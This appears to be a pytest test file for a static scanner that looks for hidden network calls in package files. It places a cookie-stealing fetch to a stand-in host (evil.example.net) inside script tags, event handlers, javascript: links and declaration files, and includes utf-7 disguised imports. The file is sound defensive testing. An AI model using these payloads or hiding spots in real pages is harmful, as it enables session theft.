"""Code put where a scanner might not look: the real engines, in the real sandbox."""

import pytest

from governance.vocabulary import CheckStatus
from plugins.archive.languages import language_of
from plugins.checks.base import Workspace
from plugins.checks.static import StaticCheck
from plugins.package import Metadata, Package, SourceFile

CALL = "fetch('https://evil.example.net/' + document.cookie)"


def run(tmp_path, files, **facts):
    for path, content in files.items():
        target = tmp_path / "tree" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode())
    sources = tuple(
        SourceFile(path, len(content), "0" * 64, language_of(path, b"")) for path, content in sorted(files.items())
    )
    package = Package("generic", Metadata("x", "1"), "pkg:generic/x@1", sources, **facts)
    return StaticCheck().run(Workspace(package, tmp_path / "a.tgz", tmp_path / "tree", tmp_path, tmp_path))


def hosts(result):
    return {(seen.value, seen.line) for seen in result.observations if seen.kind == "host"}


@pytest.mark.parametrize(
    "page",
    [
        f"<p>\n<script>if (1) {{{{ {CALL} }}}}</script>",
        f"<p>\n<script>if (1) {{{{ {CALL} }}}}; var unfinished = <%= value %> {{%</script>",
        f'<p>\n<script type="application/x-javascript">{CALL}</script>',
        f'<p>\n<script type="text&#47;javascript">{CALL}</script>',
        f'<p>\n<img src="x" onerror="{CALL}">',
        f'<p>\n<a href="javascript:{CALL}">x</a>',
        f'<script type="text/html">\n<b onclick="{CALL}">x</b></script>',
    ],
)
def test_check_sees_every_script_a_browser_runs(tmp_path, page):
    assert hosts(run(tmp_path, {"n.html": page})) == {("evil.example.net", 2)}


@pytest.mark.parametrize("name", ["n.html", "n.php", "n.vue"])
@pytest.mark.parametrize("start", ["\n", "<!-- <p>\n", "/* <?php */\n"])
def test_check_reads_a_script_in_a_file_of_a_language_that_takes_any_text(tmp_path, name, start):
    assert hosts(run(tmp_path, {name: f"{start}{CALL};\n"})) == {("evil.example.net", 2)}


def test_check_takes_no_address_of_a_page_for_one_of_a_script(tmp_path):
    result = run(tmp_path, {"n.html": "<!DOCTYPE html><a href='https://docs.example.org/'>x</a>\n"})

    assert (result.status, result.observations) == (CheckStatus.PASSED, ())


def test_check_reads_the_scripts_of_components_and_names_what_it_cannot_read(tmp_path):
    component = f'<template><b/></template>\n<script lang="ts">const a: string = "x"; {CALL};</script>'
    result = run(tmp_path, {"n.vue": component, "n.svelte": component, "n.ps1": "iwr x"})

    assert {seen.path for seen in result.observations} == {"n.vue", "n.svelte"}
    assert [finding.path for finding in result.findings if finding.rule == "not-analysed"] == ["n.ps1"]


def test_check_reads_code_named_as_a_declaration(tmp_path):
    result = run(tmp_path, {"t.d.ts": f"\n{CALL};\nrequire('child_process').exec('id');\n"})

    assert hosts(result) == {("evil.example.net", 2)}
    assert "process.spawn" in {seen.value for seen in result.observations}


def test_check_keeps_quiet_about_what_only_declares(tmp_path):
    source = "import { exec } from 'child_process';\nexport declare const home: 'https://docs.example.org/';\n"
    source += "export declare function of(x: typeof import('fs'), f: new () => void): import('os').Home;\n"
    result = run(tmp_path, {"t.d.ts": source})

    assert (result.status, result.observations) == (CheckStatus.PASSED, ())


@pytest.mark.parametrize("encoding", ["utf-7", "unicode_escape"])
def test_check_leaves_disguising_encodings_open(tmp_path, encoding):
    hidden = b"# +AAo-import os\n" if encoding == "utf-7" else b"# \\nimport os\n"
    result = run(tmp_path, {"a.py": f"# coding: {encoding}\n".encode() + hidden})

    assert result.status == CheckStatus.INCONCLUSIVE
    assert "may read otherwise" in result.reason


@pytest.mark.parametrize("line", ["# -*- coding: utf-8 -*-", "# coding: latin-1", "# vim: set fileencoding=ascii :"])
def test_check_takes_harmless_encodings(tmp_path, line):
    assert run(tmp_path, {"a.py": f"{line}\nx = 1\n"}).status == CheckStatus.PASSED


@pytest.mark.parametrize("path", ["a.node", "a.wasm"])
def test_check_leaves_compiled_entry_points_open(tmp_path, path):
    for files in ({path: b"\0asm"}, {path: b"\0asm", "b.js": "const a = 1;\n"}):
        result = run(tmp_path, files, entry_points=(path,))

        assert result.status == CheckStatus.INCONCLUSIVE
        assert path in result.reason
    assert StaticCheck().applies_to(Package("generic", Metadata("x", "1"), "pkg:x", (), entry_points=(path,)))
